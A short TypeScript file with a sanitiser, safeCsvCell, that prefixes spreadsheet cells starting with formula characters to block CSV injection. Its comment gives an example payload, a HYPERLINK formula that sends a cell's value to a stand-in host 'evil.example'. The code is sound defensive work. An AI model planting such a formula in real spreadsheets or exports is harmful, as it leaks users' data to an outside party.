/**
 * A spreadsheet program runs a cell that starts with one of these as a formula (CSV injection):
 * `=HYPERLINK("https://evil.example/?d="&A1,"…")` typed as a note would become a live link.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A cell as text that a spreadsheet shows as typed: formula-like strings get a leading `'`. */
export function safeCsvCell(v: string | number | null | undefined): string {
  if (v == null) return '';
  if (typeof v !== 'string') return String(v);
  return FORMULA_START.test(v) ? `'${v}` : v;
}
